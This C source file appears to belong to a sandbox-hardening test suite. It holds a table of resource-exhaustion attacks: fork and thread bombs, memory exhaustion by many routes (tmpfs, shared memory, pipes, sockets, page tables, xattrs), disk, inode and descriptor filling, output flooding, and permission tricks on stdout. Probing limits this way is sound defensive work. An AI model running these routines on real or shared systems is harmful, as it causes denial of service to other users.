/*
 * Taking all there is: processes, memory by every way to it, disk, inodes, descriptors, what the kernel keeps for a user.
 * Each says what stopped it, or UNLIMITED once it has taken as much as its conscience allows.
 */
#include "evil.h"

#include <pthread.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <time.h>

#define MIB (1UL << 20)

/* Most that is taken: MiB of memory or disk. */
static size_t most_mib(void) {
  const char *given = fact("MOST_MIB");
  return *given == '\0' ? 1024 : strtoul(given, NULL, 10);
}

/* Most processes, threads, files. */
static long most(const char *name, long otherwise) {
  const char *given = fact(name);
  return *given == '\0' ? otherwise : strtol(given, NULL, 10);
}

static void nap(long ms) {
  struct timespec time = {ms / 1000, ms % 1000 * 1000000};
  nanosleep(&time, NULL);
}

struct bomb {
  _Atomic long made;
  _Atomic int error;
};

static void fork_bomb(void) {
  long limit = most("MOST_PROCESSES", 2000);
  struct bomb *bomb = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  pid_t self = getpid();
  for (;;) {
    if (bomb->error != 0 || bomb->made >= limit) break;
    pid_t child = fork();
    if (child < 0) bomb->error = errno;
    else bomb->made += child == 0;
  }
  if (getpid() != self) {
    /* They stay, so that the limit stays reached. */
    alarm(0);
    for (;;) pause();
  }
  said("stopped_by", "%s", bomb->error == 0 ? "UNLIMITED" : error_name(bomb->error));
}

static void *sit(void *nothing) {
  pause();
  return nothing;
}

static void thread_bomb(void) {
  long limit = most("MOST_PROCESSES", 2000);
  pthread_attr_t small;
  pthread_attr_init(&small);
  pthread_attr_setstacksize(&small, 65536);
  for (long made = 0; made < limit; made++) {
    pthread_t thread;
    int error = pthread_create(&thread, &small, sit, NULL);
    if (error != 0) {
      said("stopped_by", "%s", error_name(error));
      return;
    }
  }
  said("stopped_by", "UNLIMITED");
}

/* Zeros need no memory where they are merged or swapped out at once: each page gets a content of its own. */
static void fill(char *memory, size_t length) {
  static uint64_t number = 0x9e3779b97f4a7c15;
  for (size_t at = 0; at + 8 <= length; at += 4096) memcpy(memory + at, &(uint64_t){number += 0x9e3779b97f4a7c15}, 8);
}

static void memory_malloc(void) {
  /* 100 GB at once, which Linux promises readily, and then page by page. */
  size_t whole = 100UL << 30;
  char *memory = mmap(NULL, whole, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
  if (memory == MAP_FAILED) {
    tried("promise", -1);
    return;
  }
  for (size_t taken = 0; taken < most_mib(); taken++) fill(memory + taken * MIB, MIB);
  said("stopped_by", "UNLIMITED");
}

/* Many processes, each of them small: what counts is their sum. */
static void memory_processes(void) {
  _Atomic long *filled = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  long made = 0, gone = 0;
  for (size_t taken = 0; taken < most_mib(); taken += 32, made++) {
    pid_t child = fork();
    if (child < 0) {
      tried("stopped_by", -1);
      return;
    }
    if (child > 0) continue;
    char *memory = mmap(NULL, 32 * MIB, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (memory != MAP_FAILED) fill(memory, 32 * MIB);
    ++*filled;
    /* It keeps what it has until all have theirs, or were killed for it: that shows in how the action ends. */
    for (;;) pause();
  }
  while (*filled + gone < made) {
    if (waitpid(-1, NULL, WNOHANG) > 0) gone++;
    else nap(10);
  }
}

static void write_until_full(const char *probe, int file) {
  static char block[MIB];
  if (file < 0) {
    tried(probe, -1);
    return;
  }
  for (size_t taken = 0; taken < most_mib(); taken++) {
    fill(block, MIB);
    for (size_t done = 0; done < MIB;) {
      ssize_t length = write(file, block + done, MIB - done);
      if (length < 0) {
        tried(probe, -1);
        return;
      }
      done += (size_t)length;
    }
  }
  said(probe, "UNLIMITED");
}

static void memory_tmpfs(void) { write_until_full("stopped_by", open("/tmp/evil", O_WRONLY | O_CREAT, 0600)); }
static void memory_shm(void) { write_until_full("stopped_by", open("/dev/shm/evil", O_WRONLY | O_CREAT, 0600)); }
static void memory_memfd(void) { write_until_full("stopped_by", memfd_create("evil", 0)); }
static void disk(void) { write_until_full("stopped_by", open("evil_data", O_WRONLY | O_CREAT, 0600)); }
/* A file that is gone still takes its place. */
static void disk_unlinked(void) {
  int file = open("evil_data", O_WRONLY | O_CREAT, 0600);
  unlink("evil_data");
  write_until_full("stopped_by", file);
}

static void memory_shared(void) {
  for (size_t taken = 0; taken < most_mib(); taken += 16) {
    char *memory = mmap(NULL, 16 * MIB, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (memory == MAP_FAILED) {
      tried("stopped_by", -1);
      return;
    }
    fill(memory, 16 * MIB);
    /* Without a mapping it still belongs to the one that forked off. */
  }
  said("stopped_by", "UNLIMITED");
}

static void memory_sysv(void) {
  for (size_t taken = 0; taken < most_mib(); taken += 16) {
    int id = shmget(IPC_PRIVATE, 16 * MIB, IPC_CREAT | 0600);
    char *memory = id < 0 ? (char *)-1 : shmat(id, NULL, 0);
    if (memory == (char *)-1) {
      tried("stopped_by", -1);
      return;
    }
    fill(memory, 16 * MIB);
    /* Detached, it belongs to no process and outlives them all but for its namespace. */
    shmdt(memory);
  }
  said("stopped_by", "UNLIMITED");
}

/* Memory of the kernel's own, for pipes and sockets that nobody reads. */
static void memory_pipes(void) {
  static char block[MIB];
  size_t taken = 0;
  int refused = 0;
  while (taken < most_mib() * MIB) {
    int ends[2];
    if (pipe2(ends, O_NONBLOCK) != 0) {
      refused = errno;
      break;
    }
    fcntl(ends[1], F_SETPIPE_SZ, MIB);
    ssize_t length;
    fill(block, MIB);
    while ((length = write(ends[1], block, MIB)) > 0) taken += (size_t)length;
  }
  said("stopped_by", "%s", refused == 0 ? "UNLIMITED" : error_name(refused));
}

static void memory_sockets(void) {
  static char block[65536];
  size_t taken = 0;
  int refused = 0;
  while (taken < most_mib() * MIB) {
    int ends[2];
    if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, ends) != 0) {
      refused = errno;
      break;
    }
    int large = 1 << 30;
    setsockopt(ends[0], SOL_SOCKET, SO_SNDBUF, &large, sizeof large);
    ssize_t length;
    while ((length = write(ends[0], block, sizeof block)) > 0) taken += (size_t)length;
  }
  said("stopped_by", "%s", refused == 0 ? "UNLIMITED" : error_name(refused));
}

/* One touched byte for each 2 MiB costs a page and a page table each. */
static void memory_tables(void) {
  size_t whole = 16UL << 40;
  char *memory = mmap(NULL, whole, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
  if (memory == MAP_FAILED) {
    tried("stopped_by", -1);
    return;
  }
  madvise(memory, whole, MADV_NOHUGEPAGE);
  for (size_t taken = 0; taken < most_mib() * 128; taken++) memory[taken * 2 * MIB] = 1;
  said("stopped_by", "UNLIMITED");
}

/* Attributes of files live in the kernel's memory, beside any size of a tmpfs. */
static void memory_attributes(void) {
  char value[4000];
  memset(value, 'x', sizeof value);
  int file = open("/tmp/evil", O_WRONLY | O_CREAT, 0600);
  for (size_t number = 0; number < most_mib() * 256; number++) {
    char name[64];
    snprintf(name, sizeof name, "user.evil%zu", number);
    if (fsetxattr(file, name, value, sizeof value, 0) != 0) {
      tried("stopped_by", -1);
      return;
    }
  }
  said("stopped_by", "UNLIMITED");
}

static void create_until_full(const char *directory) {
  long limit = most("MOST_FILES", 2000000);
  if (chdir(directory) != 0) {
    tried("stopped_by", -1);
    return;
  }
  for (long made = 0; made < limit; made++) {
    char name[32];
    snprintf(name, sizeof name, "evil%ld", made);
    int file = open(name, O_WRONLY | O_CREAT, 0600);
    if (file < 0) {
      tried("stopped_by", -1);
      return;
    }
    close(file);
  }
  said("stopped_by", "UNLIMITED");
}

static void inodes(void) { create_until_full("/work"); }
static void inodes_tmp(void) { create_until_full("/tmp"); }

static void links(void) {
  int file = open("evil_data", O_WRONLY | O_CREAT, 0600);
  close(file);
  long limit = most("MOST_FILES", 2000000);
  for (long made = 0; made < limit; made++) {
    char name[32];
    snprintf(name, sizeof name, "link%ld", made);
    if (link("evil_data", name) != 0) {
      tried("stopped_by", -1);
      return;
    }
  }
  said("stopped_by", "UNLIMITED");
}

/* Calls until it is refused. */
#define UNTIL_REFUSED(probe, limit, call)      \
  do {                                         \
    long made = 0, result = 0;                 \
    while (made < (limit) && (result = (long)(call)) >= 0) made++; \
    if (result >= 0) said(probe, "UNLIMITED"); \
    else tried(probe, -1);                     \
  } while (0)

/* What the kernel counts for a process or a user: reaching the limit must hurt nobody else. */
static void descriptors(void) {
  pid_t child = fork();
  if (child == 0) {
    UNTIL_REFUSED("files", 2000000, open("/dev/null", O_RDONLY));
    _exit(0);
  }
  ended("files", child);
  child = fork();
  if (child == 0) {
    UNTIL_REFUSED("inotify", 100000, inotify_init1(0));
    _exit(0);
  }
  ended("inotify", child);
  child = fork();
  if (child == 0) {
    UNTIL_REFUSED("epoll", 2000000, epoll_create1(0));
    _exit(0);
  }
  ended("epoll", child);
  child = fork();
  if (child == 0) {
    sigset_t all;
    sigfillset(&all);
    sigprocmask(SIG_BLOCK, &all, NULL);
    union sigval value = {0};
    UNTIL_REFUSED("sigqueue", 2000000, sigqueue(getpid(), SIGRTMIN + 3, value));
    timer_t timer;
    UNTIL_REFUSED("timers", 2000000, timer_create(CLOCK_MONOTONIC, &(struct sigevent){.sigev_notify = SIGEV_NONE}, &timer));
    _exit(0);
  }
  ended("timers", child);
  child = fork();
  if (child == 0) {
    UNTIL_REFUSED("maps", 2000000, mmap(NULL, 4096, (random() & 1) ? PROT_READ : PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0)
                                           == MAP_FAILED ? -1 : 0);
    _exit(0);
  }
  ended("maps", child);
}

/* Descriptors in flight belong to no process. */
static void descriptors_in_flight(void) {
  int refused = 0;
  for (int pairs = 0; pairs < 4096 && refused == 0; pairs++) {
    int ends[2];
    if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, ends) != 0) {
      refused = errno;
      break;
    }
    for (int messages = 0; messages < 1024; messages++) {
      char control[CMSG_SPACE(sizeof(int))] = {0}, byte = 0;
      struct iovec data = {&byte, 1};
      struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
      struct cmsghdr *head = CMSG_FIRSTHDR(&message);
      head->cmsg_level = SOL_SOCKET;
      head->cmsg_type = SCM_RIGHTS;
      head->cmsg_len = CMSG_LEN(sizeof(int));
      memcpy(CMSG_DATA(head), &ends[1], sizeof(int));
      if (sendmsg(ends[0], &message, 0) >= 0) continue;
      if (errno != EAGAIN) refused = errno;
      break;
    }
  }
  said("stopped_by", "%s", refused == 0 ? "UNLIMITED" : error_name(refused));
}

static void flood(void) {
  static char block[MIB];
  memset(block, 'x', sizeof block);
  for (size_t i = 0; i < sizeof block; i += 128) block[i] = '\n';
  for (int written = 0; written < 1024; written++) {
    for (int stream = 1; stream <= 2; stream++)
      for (size_t done = 0; done < MIB;) {
        ssize_t length = write(stream, block + done, MIB - done);
        if (length <= 0) return;
        done += (size_t)length;
      }
  }
}

/* Standard output leads to the worker: what can be done to its other end. */
static void stdout_tricks(void) {
  signal(SIGXFSZ, SIG_IGN);
  int again = open("/proc/self/fd/1", O_RDWR);
  tried("reopen", again);
  int trunc = open("/proc/self/fd/2", O_WRONLY | O_TRUNC);
  tried("truncate", trunc);
  for (int fd = 1; fd <= 2; fd++) {
    char probe[32];
    snprintf(probe, sizeof probe, "fallocate.%d", fd);
    TRY(probe, fallocate(fd, 0, 0, 100L << 30));
    snprintf(probe, sizeof probe, "ftruncate.%d", fd);
    TRY(probe, ftruncate(fd, 1L << 40));
    snprintf(probe, sizeof probe, "pwrite.%d", fd);
    TRY(probe, pwrite(fd, "x", 1, 1L << 40));
    snprintf(probe, sizeof probe, "chmod.%d", fd);
    TRY(probe, fchmod(fd, 04777));
    snprintf(probe, sizeof probe, "chown.%d", fd);
    TRY(probe, fchown(fd, 0, 0));
    snprintf(probe, sizeof probe, "lease.%d", fd);
    TRY(probe, fcntl(fd, F_SETLEASE, F_WRLCK));
    snprintf(probe, sizeof probe, "lock.%d", fd);
    TRY(probe, flock(fd, LOCK_EX | LOCK_NB));
    snprintf(probe, sizeof probe, "append.%d", fd);
    TRY(probe, fcntl(fd, F_SETFL, O_NONBLOCK));
  }
  if (again >= 0) {
    TRY("again.fallocate", fallocate(again, 0, 0, 100L << 30));
    TRY("again.pwrite", pwrite(again, "x", 1, 1L << 40));
    TRY("again.chmod", fchmod(again, 0));
  }
  TRY("link", linkat(AT_FDCWD, "/proc/self/fd/1", AT_FDCWD, "evil_stdout", AT_SYMLINK_FOLLOW));
}

const struct attack exhaustion_attacks[] = {
    {"fork_bomb", fork_bomb, false},
    {"thread_bomb", thread_bomb, false},
    {"memory_malloc", memory_malloc, false},
    {"memory_processes", memory_processes, false},
    {"memory_tmpfs", memory_tmpfs, false},
    {"memory_shm", memory_shm, false},
    {"memory_memfd", memory_memfd, false},
    {"memory_shared", memory_shared, false},
    {"memory_sysv", memory_sysv, false},
    {"memory_pipes", memory_pipes, false},
    {"memory_sockets", memory_sockets, false},
    {"memory_tables", memory_tables, false},
    {"memory_attributes", memory_attributes, false},
    {"disk", disk, false},
    {"disk_unlinked", disk_unlinked, false},
    {"inodes", inodes, false},
    {"inodes_tmp", inodes_tmp, false},
    {"links", links, false},
    {"limits", descriptors, false},
    {"descriptors_in_flight", descriptors_in_flight, false},
    {"flood", flood, false},
    {"stdout_tricks", stdout_tricks, false},
    {NULL, NULL, false},
};
